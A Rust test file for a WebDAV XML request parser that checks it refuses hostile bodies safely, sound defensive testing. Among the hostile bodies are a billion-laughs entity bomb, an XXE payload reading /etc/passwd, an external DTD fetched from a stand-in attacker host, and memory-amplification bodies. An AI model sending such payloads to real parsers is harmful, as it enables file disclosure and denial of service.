//! The adversarial catalogue (SPEC §4, "Bad input"): hostile request bodies, one test each.
//!
//! Each body gives a typed `ReadError` (its kind asserted where the body determines it) or
//! parses; what parses is answered (`PropfindAnswer` against a hand-written `PropertySet`,
//! `PatchAnswer`, each `set` value written back with `Sink::raw`) and the output is checked
//! well-formed and namespace-correct with roxmltree. Nothing may panic. Costs are not timed:
//! a quadratic path would turn the large cases from milliseconds into minutes.

use multistatus_core::name::{DAV, Name, Tag, XML};
use multistatus_core::propfind::PropfindAnswer;
use multistatus_core::proppatch::{PatchAnswer, PatchFailure};
use multistatus_core::reader::{self, Limits, MAX_DEPTH, ReadError, ReadErrorKind};
use multistatus_core::request::{Instruction, PropertyUpdate, Propfind};
use multistatus_core::{
    Element, Error, Href, MultistatusWriter, NameTree, Namespaces, Node, PropState, PropertyName,
    PropertySet, PropertyValue, Sink, Status,
};

// ---------------------------------------------------------------------------------------
// A property set written by hand, as the derive would generate it (this crate cannot use
// the derive): a `DAV:` property and one in another namespace.

#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum FileName {
    Displayname,
    Color,
}

const COLOR_NS: &str = "urn:example:color";
const DISPLAYNAME: Tag = Tag::new(DAV, "displayname");
const COLOR: Tag = Tag::new(COLOR_NS, "color");

impl PropertyName for FileName {
    fn tag(self) -> &'static Tag {
        match self {
            Self::Displayname => &DISPLAYNAME,
            Self::Color => &COLOR,
        }
    }
    fn from_name(namespace: &str, local: &str) -> Option<Self> {
        match (namespace, local) {
            (DAV, "displayname") => Some(Self::Displayname),
            (COLOR_NS, "color") => Some(Self::Color),
            _ => None,
        }
    }
    fn in_allprop(self) -> bool {
        true
    }
    fn for_each(f: &mut dyn FnMut(Self)) {
        f(Self::Displayname);
        f(Self::Color);
    }
}

struct File {
    displayname: String,
    color: Option<String>,
}

impl PropertySet for File {
    type Name = FileName;
    const NAME_TREE: NameTree = NameTree {
        own: &[DISPLAYNAME, COLOR],
        flattened: &[],
    };
    fn state(&self, name: FileName) -> PropState {
        self.value(name).state()
    }
    fn write_property(&self, name: FileName, sink: &mut Sink) -> Result<(), Error> {
        sink.property(name.tag(), self.value(name))
    }
    fn value(&self, name: FileName) -> &dyn PropertyValue {
        match name {
            FileName::Displayname => &self.displayname,
            FileName::Color => &self.color,
        }
    }
    fn write_allprop(&self, sink: &mut Sink) -> Result<(), Error> {
        sink.property(&DISPLAYNAME, &self.displayname)?;
        sink.property(&COLOR, &self.color)
    }
}

// ---------------------------------------------------------------------------------------
// Checks.

/// An expanded name as roxmltree and the crate both can give it.
type Expanded = (String, String);

fn expanded(name: &Name<'_>) -> Expanded {
    (name.namespace().to_owned(), name.local().to_owned())
}

fn node_name(node: roxmltree::Node<'_, '_>) -> Expanded {
    let tag = node.tag_name();
    (
        tag.namespace().unwrap_or_default().to_owned(),
        tag.name().to_owned(),
    )
}

/// Parses `xml` with roxmltree, which refuses malformed XML and unbound prefixes.
#[allow(clippy::panic, reason = "test helper: reports the malformed output")]
fn well_formed(xml: &str) -> roxmltree::Document<'_> {
    match roxmltree::Document::parse(xml) {
        Ok(doc) => doc,
        Err(e) => panic!("malformed output ({e}): {xml}"),
    }
}

#[allow(clippy::panic, reason = "test helper: reports the unexpected error")]
fn ok<T, E: std::fmt::Display>(result: Result<T, E>, what: &str) -> T {
    result.unwrap_or_else(|e| panic!("{what}: {e}"))
}

/// The names each `DAV:response` reports, in its propstats, sorted.
fn reported(doc: &roxmltree::Document<'_>) -> Vec<Vec<Expanded>> {
    doc.root_element()
        .children()
        .filter(|n| n.has_tag_name((DAV, "response")))
        .map(|response| {
            let mut names: Vec<Expanded> = response
                .descendants()
                .filter(|n| n.has_tag_name((DAV, "prop")))
                .flat_map(|prop| prop.children().filter(roxmltree::Node::is_element))
                .map(node_name)
                .collect();
            names.sort();
            names
        })
        .collect()
}

/// Answers `request` for two resources (one lacks the color) and checks the answer: well
/// formed, every prefix bound, and for a `prop` request each requested name reported once
/// per response, in its own namespace.
fn check_propfind(request: &Propfind) {
    let answer = PropfindAnswer::<File>::new(request);
    let mut ms = MultistatusWriter::new(Vec::new(), answer.namespaces());
    let files = [
        File {
            displayname: "Report <1> & \r".into(),
            color: Some("red".into()),
        },
        File {
            displayname: String::new(),
            color: None,
        },
    ];
    for (path, file) in ["/a", "/b"].into_iter().zip(&files) {
        let href = ok(Href::from_path(path), "href");
        ok(answer.write(&mut ms, &href, file), "PropfindAnswer::write");
    }
    let xml = ok(String::from_utf8(ok(ms.finish(), "finish")), "UTF-8");
    let doc = well_formed(&xml);
    if let Propfind::Prop(names) = request {
        let mut requested: Vec<Expanded> = names.iter().map(expanded).collect();
        requested.sort();
        for names in reported(&doc) {
            assert_eq!(names, requested, "{xml}");
        }
    }
}

/// Answers `update` (a `DAV:` property is protected, the rest succeed) and checks the answer
/// reports each property once; then writes each `set` value back with `Sink::raw` and checks
/// it is the same tree, namespaces included.
fn check_proppatch(update: &PropertyUpdate) {
    let answer =
        PatchAnswer::evaluate(update, |instruction| match instruction.name().namespace() {
            DAV => Err(PatchFailure::Protected),
            _ => Ok(()),
        });
    let mut ms = MultistatusWriter::new(Vec::new(), answer.namespaces());
    ok(
        answer.write(&mut ms, &ok(Href::from_path("/doc"), "href")),
        "PatchAnswer::write",
    );
    let xml = ok(String::from_utf8(ok(ms.finish(), "finish")), "UTF-8");
    let doc = well_formed(&xml);
    let mut names: Vec<Expanded> = update
        .instructions
        .iter()
        .map(|i| expanded(i.name()))
        .collect();
    names.sort();
    names.dedup();
    assert_eq!(reported(&doc), [names], "{xml}");
    for instruction in &update.instructions {
        if let Instruction::Set(value) = instruction {
            written_back(value.element());
        }
    }
}

/// Writes `element` with `Sink::raw` and checks roxmltree reads the same tree back.
fn written_back(element: &Element) {
    let mut sink = Sink::new(Namespaces::new());
    ok(sink.raw(element), "Sink::raw");
    // The sink assumes `DAV:` declared around it, as a multistatus root does.
    let xml = format!("<w xmlns:D=\"DAV:\">{}</w>", sink.as_str());
    let doc = well_formed(&xml);
    let Some(root) = doc.root_element().first_element_child() else {
        return assert!(doc.root_element().has_children(), "{xml}");
    };
    same_tree(element, root, &xml);
}

/// Compares an element with what roxmltree read, level by level, without recursion.
fn same_tree(element: &Element, node: roxmltree::Node<'_, '_>, xml: &str) {
    let mut pending = vec![(element, node)];
    while let Some((e, n)) = pending.pop() {
        assert_eq!(expanded(e.name()), node_name(n), "{xml}");
        let mut attributes: Vec<(Expanded, String)> = e
            .attributes()
            .iter()
            .map(|a| (expanded(&a.name), a.value.clone()))
            .collect();
        let mut read: Vec<(Expanded, String)> = n
            .attributes()
            .map(|a| {
                let ns = a.namespace().unwrap_or_default().to_owned();
                ((ns, a.name().to_owned()), a.value().to_owned())
            })
            .collect();
        attributes.sort();
        read.sort();
        assert_eq!(attributes, read, "{xml}");
        assert_eq!(e.text(), text_of(n), "{xml}");
        let children: Vec<&Element> = e.child_elements().collect();
        let read: Vec<roxmltree::Node<'_, '_>> = n.children().filter(|c| c.is_element()).collect();
        assert_eq!(children.len(), read.len(), "{xml}");
        pending.extend(children.into_iter().zip(read));
    }
}

/// The concatenated text children of a node.
fn text_of(node: roxmltree::Node<'_, '_>) -> String {
    node.children()
        .filter(roxmltree::Node::is_text)
        .filter_map(|c| c.text())
        .collect()
}

/// Parses `body` as the kind of request it is and checks what parses; an error must say
/// where it is (inside the body) and map to 400 or 413. Whether it parsed.
fn exercise(body: &[u8]) -> bool {
    let propfind = body.windows(8).any(|w| w == b"propfind");
    let result = if propfind {
        Propfind::parse(body).map(|p| check_propfind(&p))
    } else {
        PropertyUpdate::parse(body).map(|u| check_proppatch(&u))
    };
    if let Err(e) = &result {
        checked_error(e, body);
    }
    result.is_ok()
}

fn checked_error(e: &ReadError, body: &[u8]) {
    assert!(e.position() <= body.len(), "{e} in {} bytes", body.len());
    assert!(
        e.to_string().contains(&format!("at byte {}", e.position())),
        "{e}"
    );
    let status = e.http_status();
    assert!(
        status == Status::BAD_REQUEST || status == Status::CONTENT_TOO_LARGE,
        "{e}"
    );
}

#[allow(clippy::panic, reason = "test helper: reports the unexpected success")]
fn refused<T: std::fmt::Debug>(result: Result<T, ReadError>) -> ReadError {
    match result {
        Ok(v) => panic!("unexpectedly parsed: {v:?}"),
        Err(e) => e,
    }
}

/// `n` copies of `item(i)`, concatenated.
fn repeat(n: usize, item: impl Fn(usize) -> String) -> String {
    (0..n).map(item).collect()
}

/// Runs `f` on a thread with a 2 MiB stack (the default of spawned threads), so that a
/// recursion over a deep tree would overflow it.
fn on_small_stack(f: impl FnOnce() + Send + 'static) {
    let thread = std::thread::Builder::new().stack_size(2 << 20).spawn(f);
    assert!(thread.is_ok_and(|t| t.join().is_ok()));
}

// ---------------------------------------------------------------------------------------
// Entities and DTDs.

/// Billion laughs: nested entity definitions are never expanded, the DOCTYPE is refused.
#[test]
fn billion_laughs() {
    let lols = repeat(9, |i| {
        let refs = format!("&lol{i};").repeat(10);
        format!("<!ENTITY lol{} \"{refs}\">", i + 1)
    });
    let body = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">{lols}]>\
         <propfind xmlns=\"DAV:\"><prop><x xmlns=\"urn:x\">&lol9;</x></prop></propfind>"
    );
    let e = refused(Propfind::parse(body.as_bytes()));
    assert_eq!(e.kind(), &ReadErrorKind::Doctype);
    assert_eq!(e.position(), 21);
}

/// An external entity (XXE) is never fetched: the DOCTYPE is refused.
#[test]
fn external_entity() {
    let body = br#"<!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><propertyupdate xmlns="DAV:"><set><prop><x xmlns="urn:x">&xxe;</x></prop></set></propertyupdate>"#;
    assert_eq!(
        refused(PropertyUpdate::parse(body)).kind(),
        &ReadErrorKind::Doctype
    );
}

/// A parameter entity referring to an external DTD is refused with its DOCTYPE.
#[test]
fn parameter_entity() {
    let body = br#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><propfind xmlns="DAV:"><allprop/></propfind>"#;
    let e = refused(Propfind::parse(body));
    assert_eq!(e.kind(), &ReadErrorKind::Doctype);
    assert_eq!(e.http_status(), Status::BAD_REQUEST);
}

/// A reference to an entity no DOCTYPE declared is refused by name.
#[test]
fn undeclared_entity() {
    let e = refused(reader::read(b"<a>&lol9;</a>"));
    assert_eq!(
        e.kind(),
        &ReadErrorKind::UndefinedEntity {
            name: "lol9".into()
        }
    );
}

// ---------------------------------------------------------------------------------------
// Size and shape.

/// 100 000 nested elements with the default limits: refused at the 65th level, 413.
#[test]
fn deep_nesting_with_default_limits() {
    let depth = 100_000;
    let body = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let e = refused(reader::read(body.as_bytes()));
    assert_eq!(e.kind(), &ReadErrorKind::TooDeep { max_depth: 64 });
    assert_eq!(e.position(), 3 * 64);
    assert_eq!(e.http_status(), Status::CONTENT_TOO_LARGE);
}

/// With `max_depth` raised past what the parser can count, the depth is capped at
/// `MAX_DEPTH`; a tree that deep is read, written back with `Sink::raw`, compared with
/// roxmltree's reading and dropped, all on a 2 MiB stack.
#[test]
fn deep_nesting_with_raised_limits() {
    on_small_stack(|| {
        let limits = Limits {
            max_depth: usize::MAX,
            ..Limits::default()
        };
        let nested = |depth: usize| format!("{}x{}", "<a>".repeat(depth), "</a>".repeat(depth));
        let e = refused(reader::read_with(nested(100_000).as_bytes(), &limits));
        assert_eq!(
            e.kind(),
            &ReadErrorKind::TooDeep {
                max_depth: MAX_DEPTH
            }
        );
        assert_eq!(e.position(), 3 * MAX_DEPTH);

        let body = nested(MAX_DEPTH);
        let tree = ok(reader::read_with(body.as_bytes(), &limits), "read");
        let mut sink = Sink::new(Namespaces::new());
        ok(sink.raw(&tree), "Sink::raw");
        assert_eq!(sink.as_str(), body);
        let doc = well_formed(sink.as_str());
        assert_eq!(
            doc.descendants()
                .filter(roxmltree::Node::is_element)
                .count(),
            MAX_DEPTH
        );
        drop(tree);
    });
}

/// A PROPPATCH value as deep as the reader allows is parsed, answered, written back and
/// dropped on a 2 MiB stack.
#[test]
fn deep_proppatch_value() {
    on_small_stack(|| {
        let depth = MAX_DEPTH - 3;
        let body = format!(
            "<propertyupdate xmlns=\"DAV:\"><set><prop><v xmlns=\"urn:z\">{}{}</v></prop></set></propertyupdate>",
            "<v>".repeat(depth - 1),
            "</v>".repeat(depth - 1)
        );
        let limits = Limits {
            max_depth: MAX_DEPTH,
            ..Limits::default()
        };
        let update = ok(
            PropertyUpdate::parse_with(body.as_bytes(), &limits),
            "parse",
        );
        check_proppatch(&update);
    });
}

/// A 20 MB body is refused before any parsing, 413, at the limit.
#[test]
fn body_of_20_mb() {
    let mut body = b"<propfind xmlns=\"DAV:\"><prop>".to_vec();
    body.resize(20_000_000, b' ');
    let e = refused(Propfind::parse(&body));
    assert_eq!(e.kind(), &ReadErrorKind::TooLarge { max_bytes: 1 << 20 });
    assert_eq!(e.position(), 1 << 20);
    assert_eq!(e.http_status(), Status::CONTENT_TOO_LARGE);
}

/// 100 000 sibling elements: over the element limit as a whole; as 99 000 requested names,
/// over the names limit (413 at the 1 001st); with that limit raised, parsed and answered.
#[test]
fn siblings_100k() {
    let e = refused(reader::read(
        format!("<r>{}</r>", "<x/>".repeat(100_000)).as_bytes(),
    ));
    assert_eq!(
        e.kind(),
        &ReadErrorKind::TooManyElements {
            max_elements: 100_000
        }
    );

    let names = repeat(99_000, |i| format!("<p{i}/>"));
    let body = format!(
        "<D:propfind xmlns:D=\"DAV:\" xmlns=\"urn:x\"><D:prop>{names}</D:prop></D:propfind>"
    );
    let e = refused(Propfind::parse(body.as_bytes()));
    assert_eq!(e.kind(), &ReadErrorKind::TooManyNames { max_names: 1_000 });
    assert_eq!(e.http_status(), Status::CONTENT_TOO_LARGE);
    let at = body.find("<p1000/>");
    assert_eq!(Some(e.position()), at);

    let limits = Limits {
        max_names: usize::MAX,
        ..Limits::default()
    };
    let request = ok(Propfind::parse_with(body.as_bytes(), &limits), "parse");
    assert_eq!(request.names().len(), 99_000);
    check_propfind(&request);
}

/// A PROPPATCH removing 90 000 properties (1.7 s at 10 000 names and 144 s at 90 000 when
/// each instruction was looked up by a scan) is refused by the names limit by default, and
/// answered with the limit raised.
#[test]
fn proppatch_of_90k_names() {
    let names = repeat(90_000, |i| format!("<p{i}/>"));
    let body = format!(
        "<D:propertyupdate xmlns:D=\"DAV:\" xmlns=\"urn:x\"><D:remove><D:prop>{names}</D:prop></D:remove>\
         <D:set><D:prop><p7>again</p7></D:prop></D:set></D:propertyupdate>"
    );
    let e = refused(PropertyUpdate::parse(body.as_bytes()));
    assert_eq!(e.kind(), &ReadErrorKind::TooManyNames { max_names: 1_000 });
    let limits = Limits {
        max_names: usize::MAX,
        ..Limits::default()
    };
    let update = ok(
        PropertyUpdate::parse_with(body.as_bytes(), &limits),
        "parse",
    );
    assert_eq!(update.instructions.len(), 90_001);
    check_proppatch(&update);
}

/// 100 000 namespace declarations on one element (2 MB: `max_bytes` raised to let it in):
/// refused at the 129th (413); one on each of 100 000 siblings is fine, each going out of
/// scope with its element.
#[test]
fn namespace_declarations_100k() {
    let declarations = repeat(100_000, |i| format!(" xmlns:p{i}=\"urn:{i}\""));
    let limits = Limits {
        max_bytes: 4 << 20,
        ..Limits::default()
    };
    let e = refused(reader::read_with(
        format!("<r{declarations}/>").as_bytes(),
        &limits,
    ));
    assert_eq!(e.kind(), &ReadErrorKind::TooManyNamespaces { max: 128 });
    assert_eq!(e.http_status(), Status::CONTENT_TOO_LARGE);

    let siblings = repeat(99_999, |i| format!("<p{i}:x xmlns:p{i}=\"urn:{i}\"/>"));
    let root = ok(
        reader::read_with(format!("<r>{siblings}</r>").as_bytes(), &limits),
        "read",
    );
    assert_eq!(root.children().len(), 99_999);
}

/// 100 000 attributes on one element (1.2 MB: `max_bytes` raised to let it in): refused at
/// the 129th (413, pointing at it); with the limit raised, read (duplicates found through a
/// hash map), and a repeated one at the end is still found.
#[test]
fn attributes_100k() {
    let attributes = repeat(100_000, |i| format!(" a{i}=\"{i}\""));
    let mut limits = Limits {
        max_bytes: 4 << 20,
        ..Limits::default()
    };
    let e = refused(reader::read_with(
        format!("<r{attributes}/>").as_bytes(),
        &limits,
    ));
    assert_eq!(
        e.kind(),
        &ReadErrorKind::TooManyAttributes {
            max_attributes: 128
        }
    );
    assert_eq!(
        e.position(),
        3 + attributes.find(" a128=").unwrap_or_default()
    );

    limits.max_attributes = usize::MAX;
    let root = ok(
        reader::read_with(format!("<r{attributes}/>").as_bytes(), &limits),
        "read",
    );
    assert_eq!(root.attributes().len(), 100_000);
    let body = format!("<r{attributes} a5=\"again\"/>");
    let e = refused(reader::read_with(body.as_bytes(), &limits));
    assert_eq!(
        e.kind(),
        &ReadErrorKind::DuplicateAttribute { name: "a5".into() }
    );
    assert_eq!(Some(e.position()), body.rfind("a5="));
}

/// An inherited `xml:lang` is copied onto every property: a long one over many properties
/// is bounded by the tree budget (413) instead of multiplying memory.
#[test]
fn inherited_language_amplification() {
    let lang = "x".repeat(500_000);
    let properties = repeat(10_000, |i| format!("<p{i}/>"));
    let body = format!(
        "<D:propertyupdate xmlns:D=\"DAV:\" xmlns=\"urn:x\" xml:lang=\"{lang}\"><D:set><D:prop>{properties}</D:prop></D:set></D:propertyupdate>"
    );
    let limits = Limits {
        max_names: usize::MAX,
        ..Limits::default()
    };
    let e = refused(PropertyUpdate::parse_with(body.as_bytes(), &limits));
    assert!(
        matches!(e.kind(), ReadErrorKind::TreeTooLarge { .. }),
        "{e}"
    );
    assert_eq!(e.http_status(), Status::CONTENT_TOO_LARGE);
}

/// The namespace declarations in scope are copied onto every dead property: many long
/// ones over many properties are bounded by the tree budget (413) instead of multiplying
/// memory, though the body is small.
#[test]
fn inherited_namespaces_amplification() {
    let namespace = format!("urn:{}", "n".repeat(1_000));
    let declarations = repeat(100, |i| format!(" xmlns:n{i}=\"{namespace}{i}\""));
    let properties = repeat(1_000, |i| format!("<p{i}/>"));
    let body = format!(
        "<D:propertyupdate xmlns:D=\"DAV:\" xmlns=\"urn:x\"{declarations}><D:set><D:prop>{properties}</D:prop></D:set></D:propertyupdate>"
    );
    assert!(body.len() < Limits::default().max_bytes);
    let e = refused(PropertyUpdate::parse(body.as_bytes()));
    assert!(
        matches!(e.kind(), ReadErrorKind::TreeTooLarge { .. }),
        "{e}"
    );
    assert_eq!(e.http_status(), Status::CONTENT_TOO_LARGE);
}

// ---------------------------------------------------------------------------------------
// Encodings.

/// Invalid and overlong UTF-8 and encoded surrogates are refused where they start.
#[test]
fn invalid_and_overlong_utf8() {
    for bad in [
        &b"\xC0\xAF"[..],
        b"\xE0\x80\xAF",
        b"\xED\xA0\x80",
        b"\xF8\x88\x80\x80\x80",
        b"\xFF",
    ] {
        let mut body = b"<propfind xmlns=\"DAV:\"><prop><x xmlns=\"urn:x\">".to_vec();
        let at = body.len();
        body.extend_from_slice(bad);
        body.extend_from_slice(b"</x></prop></propfind>");
        let e = refused(Propfind::parse(&body));
        assert_eq!(e.kind(), &ReadErrorKind::InvalidUtf8, "{bad:?}");
        assert_eq!(e.position(), at, "{bad:?}");
    }
}

// ---------------------------------------------------------------------------------------
// Namespaces.

/// Unbound prefixes, on elements and attributes, are refused by name.
#[test]
fn unbound_prefixes() {
    for (body, prefix) in [(&b"<p:a/>"[..], "p"), (b"<a p:b=\"1\"/>", "p")] {
        let e = refused(reader::read(body));
        assert_eq!(
            e.kind(),
            &ReadErrorKind::UnboundPrefix {
                prefix: prefix.into()
            }
        );
    }
}

/// The reserved prefixes and namespaces: `xml` bound elsewhere, `xmlns` bound at all, the
/// XML or XMLNS namespace bound to another prefix, and elements in them, are refused;
/// declarations are pointed at.
#[test]
fn reserved_prefixes_and_namespaces() {
    for (body, at) in [
        (&br#"<a xmlns:xml="urn:x"/>"#[..], 3),
        (br#"<a xmlns:xmlns="urn:x"/>"#, 3),
        (
            br#"<a b="1" xmlns:xmlns="http://www.w3.org/2000/xmlns/"/>"#,
            9,
        ),
        (br#"<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>"#, 3),
        (br#"<a xmlns:p="http://www.w3.org/2000/xmlns/"/>"#, 3),
        (
            br#"<a xmlns:p="http://www.w3.org/XML/1998/namespac&#x65;"/>"#,
            3,
        ),
    ] {
        let e = refused(reader::read(body));
        assert!(
            matches!(e.kind(), ReadErrorKind::ReservedNamespace { .. }),
            "{e}"
        );
        assert_eq!(e.position(), at, "{e}");
    }
    for body in [
        &b"<xmlns:a/>"[..],
        b"<xml:a/>",
        br#"<a xmlns="http://www.w3.org/XML/1998/namespace"/>"#,
        br#"<a xmlns="http://www.w3.org/2000/xmlns/"/>"#,
    ] {
        let e = refused(reader::read(body));
        assert!(
            matches!(e.kind(), ReadErrorKind::InvalidNamespace { .. }),
            "{e}"
        );
    }
    // `xml:lang` itself is an attribute in the XML namespace, as it should be.
    let root = ok(reader::read(br#"<a xml:lang="en"/>"#), "read");
    assert_eq!(root.attribute(XML, "lang"), Some("en"));
}

/// `xmlns:p=""` cannot undeclare a prefix; it is pointed at.
#[test]
fn empty_prefixed_namespace() {
    let e = refused(reader::read(br#"<a xmlns:q="urn:q" xmlns:p=""/>"#));
    assert_eq!(
        e.kind(),
        &ReadErrorKind::EmptyPrefixedNamespace { prefix: "p".into() }
    );
    assert_eq!(e.position(), 19);
}

// ---------------------------------------------------------------------------------------
// Malformed XML.

/// A mismatched end tag names both tags.
#[test]
fn mismatched_tags() {
    let e = refused(Propfind::parse(
        b"<propfind xmlns=\"DAV:\"><prop></propfind></prop>",
    ));
    assert_eq!(
        e.kind(),
        &ReadErrorKind::MismatchedEndTag {
            expected: "prop".into(),
            found: "propfind".into()
        }
    );
}

/// A valid PROPFIND (UTF-8, and UTF-16) cut at every byte offset: blank prefixes are
/// `allprop`, a cut inside a character is an encoding error, every other is a syntax error.
#[test]
fn truncated_propfind_at_every_offset() {
    let body = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<D:propfind xmlns:D=\"DAV:\" xmlns:é=\"urn:é\">\
                <D:prop><D:getetag/><é:x/></D:prop></D:propfind>";
    let utf16: Vec<u8> = std::iter::once(0xFEFF)
        .chain(body.replace("utf-8", "UTF-16").encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    for (bytes, utf16) in [(body.as_bytes(), false), (&utf16[..], true)] {
        for cut in 0..bytes.len() {
            let prefix = &bytes[..cut];
            let result = Propfind::parse(prefix);
            let blank = cut == 0 || utf16 && cut == 2;
            if blank {
                assert_eq!(result, Ok(Propfind::AllProp { include: vec![] }));
                continue;
            }
            let e = refused(result);
            checked_error(&e, prefix);
            let kind = e.kind();
            if utf16 && cut == 1 {
                // Half a byte order mark: not one, so UTF-8, which 0xFF cannot start.
                assert_eq!(kind, &ReadErrorKind::InvalidUtf8);
            } else if utf16 && cut % 2 == 1 {
                assert_eq!(kind, &ReadErrorKind::InvalidUtf16, "cut at {cut}");
            } else if !utf16 && !body.is_char_boundary(cut) {
                assert_eq!(kind, &ReadErrorKind::InvalidUtf8, "cut at {cut}");
            } else {
                assert!(
                    matches!(
                        kind,
                        ReadErrorKind::Malformed { .. }
                            | ReadErrorKind::UnclosedElement { .. }
                            | ReadErrorKind::NoRoot
                    ),
                    "cut at {cut}: {e}"
                );
            }
        }
        assert!(Propfind::parse(bytes).is_ok());
    }
}

/// A valid PROPPATCH cut at every byte offset is refused every time.
#[test]
fn truncated_proppatch_at_every_offset() {
    let body = "<D:propertyupdate xmlns:D=\"DAV:\" xmlns:Z=\"urn:z\"><D:set><D:prop>\
                <Z:author xml:lang=\"fr\" Z:a=\"&amp;1\">Jérôme <Z:b>&#13;<![CDATA[<x>]]></Z:b></Z:author>\
                </D:prop></D:set><D:remove><D:prop><Z:old/></D:prop></D:remove></D:propertyupdate>";
    for cut in 0..body.len() {
        let prefix = &body.as_bytes()[..cut];
        let e = refused(PropertyUpdate::parse(prefix));
        checked_error(&e, prefix);
        if !body.is_char_boundary(cut) {
            assert_eq!(e.kind(), &ReadErrorKind::InvalidUtf8, "cut at {cut}");
        }
    }
    check_proppatch(&ok(PropertyUpdate::parse(body.as_bytes()), "parse"));
}

// ---------------------------------------------------------------------------------------
// Random mutations.

/// Valid bodies the mutations start from: the shapes of PROPFIND and PROPPATCH, with
/// namespaces (default, prefixed, relative, redeclared), languages, references, CDATA,
/// comments and processing instructions.
const SEEDS: &[&str] = &[
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<D:propfind xmlns:D=\"DAV:\" xmlns:c=\"urn:example:color\">\
     <D:prop><D:displayname/><c:color/><x xmlns=\"urn:x\"/><y/></D:prop></D:propfind>",
    "<propfind xmlns=\"DAV:\"><allprop/><include><getetag/><q:x xmlns:q=\"q\"/></include></propfind>",
    "<propfind xmlns='DAV:'><!-- c --><propname/><?pi x?></propfind>",
    "<D:propertyupdate xmlns:D=\"DAV:\" xmlns:Z=\"urn:z\" xml:lang=\"en\"><D:set><D:prop>\
     <Z:author Z:a=\"1&amp;2\" b='&#x41;'>Jérôme &lt;<Z:n xml:space=\"preserve\"> <![CDATA[<]]> </Z:n>\r\n</Z:author>\
     <D:displayname>x</D:displayname></D:prop></D:set>\
     <D:remove><D:prop><Z:old/><z:rel xmlns:z=\"zzz\"/></D:prop></D:remove></D:propertyupdate>",
    "<propertyupdate xmlns=\"DAV:\"><set><prop><a xmlns=\"urn:a\"><b xmlns=\"urn:b\"><c xmlns=\"\">t</c></b></a></prop></set></propertyupdate>",
];

/// splitmix64: a small deterministic generator, so that a failure reproduces.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number below `n` (which is not 0).
    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % n as u64).unwrap_or_default()
    }
}

/// One random edit, sometimes two: a byte changed (to a printable one mostly), one of
/// `<`, `&`, `"`, `'`, `>`, `/`, `=`, `:` inserted, a range deleted, or a range duplicated.
fn mutate(rng: &mut Rng, body: &mut Vec<u8>) {
    for _ in 0..1 + rng.below(3) / 2 {
        let len = body.len().max(1);
        let at = rng.below(len).min(body.len());
        match rng.below(4) {
            0 => {
                if let Some(b) = body.get_mut(at) {
                    *b = if rng.below(4) == 0 {
                        rng.below(256) as u8
                    } else {
                        b' ' + rng.below(95) as u8
                    };
                }
            }
            1 => body.insert(at, b"<&\"'>/=:"[rng.below(8)]),
            2 => {
                let end = (at + 1 + rng.below(8)).min(body.len());
                body.drain(at..end);
            }
            _ => {
                let end = (at + 1 + rng.below(32)).min(body.len());
                let copy = body[at..end].to_vec();
                let to = rng.below(body.len() + 1);
                body.splice(to..to, copy);
            }
        }
    }
}

/// 100 000 seeded random mutations of the seed bodies: each is refused with a located
/// error or parsed, answered and checked; never a panic.
#[test]
fn random_mutations() {
    for seed in SEEDS {
        assert!(exercise(seed.as_bytes()), "{seed}");
    }
    let mut rng = Rng(0x5EED_0008);
    let (mut parsed, mut refused_count) = (0, 0);
    for i in 0..100_000 {
        let mut body = SEEDS[i % SEEDS.len()].as_bytes().to_vec();
        mutate(&mut rng, &mut body);
        if exercise(&body) {
            parsed += 1;
        } else {
            refused_count += 1;
        }
    }
    // Both outcomes are exercised, not only one.
    assert!(
        parsed > 1_000 && refused_count > 1_000,
        "{parsed} parsed, {refused_count} refused"
    );
}

/// A relative namespace (`xmlns:z="zzz"`, deprecated but allowed) is read, answered and
/// written back in the same namespace.
#[test]
fn relative_namespace_is_written_back() {
    let body = br#"<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><z:a xmlns:z="zzz" z:b="1"><z:c/></z:a></D:prop></D:set></D:propertyupdate>"#;
    let update = ok(PropertyUpdate::parse(body), "parse");
    let [Instruction::Set(value)] = update.instructions.as_slice() else {
        return assert!(matches!(
            update.instructions.as_slice(),
            [Instruction::Set(_)]
        ));
    };
    assert!(value.name().is("zzz", "a"));
    assert!(matches!(value.element().children(), [Node::Element(c)] if c.name().is("zzz", "c")));
    check_proppatch(&update);
}
